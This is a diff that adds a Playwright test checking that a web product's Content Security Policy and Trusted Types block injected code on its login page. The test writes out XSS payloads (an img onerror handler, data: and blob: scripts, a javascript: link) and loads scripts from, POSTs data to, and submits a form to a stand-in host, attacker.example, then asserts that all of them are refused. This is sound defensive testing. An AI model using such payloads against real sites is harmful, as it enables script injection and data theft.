@@ -1,0 +1,68 @@
+/** Somebody's code in the page, as after a flaw of ours: what it tries does not work. */
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import type { Browser } from 'playwright-core';
+import { newVisitor, openBrowser, takeViolations } from '../harness/browser.ts';
+import { startProduct } from '../harness/product.ts';
+import type { Product } from '../harness/product.ts';
+
+describe('a page that is attacked', () => {
+  let product: Product;
+  let browser: Browser;
+  before(async () => { [product, browser] = await Promise.all([startProduct(), openBrowser()]); });
+  after(async () => { await browser.close(); await product.stop(); });
+
+  it('runs no script but those of the release list, and no markup, handler or address as code', async () => {
+    const { page, context } = await newVisitor(browser, product.url);
+    await page.goto('/user/login');
+    await page.getByRole('button', { name: 'Accedi' }).waitFor();
+    assert.deepEqual(takeViolations(), []);
+    const tried = await page.evaluate(async () => {
+      const ran: string[] = [];
+      (window as unknown as { ran: string[] }).ran = ran;
+      const outcome: Record<string, string> = {};
+      const attempt = (name: string, act: () => void): void => { try { act(); outcome[name] = 'done'; } catch (error) { outcome[name] = error instanceof TypeError ? 'refused' : String(error); } };
+      const script = (src: string) => () => { const tag = document.createElement('script'); tag.src = src; document.head.append(tag); };
+      attempt('markup', () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran.push(1)">'); });
+      attempt('inner markup', () => { document.createElement('div').innerHTML = '<b>x</b>'; });
+      attempt('foreign script', script('https://attacker.example/x.js'));
+      attempt('foreign script of the same name', script('https://attacker.example/shell/main.js'));
+      attempt('script that no release lists', script('/shell/altro.js'));
+      attempt('answer of the API as a script', script('/api/vix'));
+      attempt('data as a script', script('data:text/javascript,ran.push(2)'));
+      attempt('blob as a script', script(URL.createObjectURL(new Blob(['ran.push(3)'], { type: 'text/javascript' }))));
+      attempt('worker', () => { void new Worker('/altro.js'); });
+      attempt('text as code', () => { setTimeout('ran.push(4)' as unknown as () => void); });
+      attempt('text of a script', () => { const tag = document.createElement('script'); tag.text = 'ran.push(5)'; document.head.append(tag); });
+      attempt('another policy', () => { (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('mine', { createScriptURL: (url: string) => url }); });
+      // Attributes and addresses do not throw: they just do not run.
+      const button = document.createElement('button');
+      attempt('handler', () => { button.setAttribute('onclick', 'ran.push(6)'); });
+      button.click();
+      const link = document.createElement('a');
+      link.href = 'javascript:ran.push(7)';
+      document.body.append(link);
+      link.click();
+      const frame = document.createElement('iframe');
+      frame.src = 'https://attacker.example/';
+      document.body.append(frame);
+      const sent = await fetch('https://attacker.example/', { method: 'POST', body: 'dati' }).then(() => 'sent', () => 'refused');
+      const form = document.createElement('form');
+      form.action = 'https://attacker.example/';
+      document.body.append(form);
+      form.submit();
+      await new Promise((resolve) => { setTimeout(resolve, 500); });
+      return { outcome, sent, ran, at: location.href };
+    });
+    const stopped = takeViolations();
+    assert.deepEqual(tried.ran, []);
+    assert.equal(tried.sent, 'refused');
+    assert.equal(tried.at, `${product.url}/user/login`);
+    const { handler: _silent, ...loud } = tried.outcome;
+    assert.deepEqual(Object.entries(loud).filter(([, result]) => result === 'done'), []);
+    for (const directive of ['require-trusted-types-for', 'connect-src', 'frame-src', 'form-action', 'trusted-types']) {
+      assert.ok(stopped.some((violation) => violation.includes(`: ${directive}`) || violation.includes('default-src')), `${directive} stopped nothing: ${stopped.join(' | ')}`);
+    }
+    await context.close();
+  });
+});
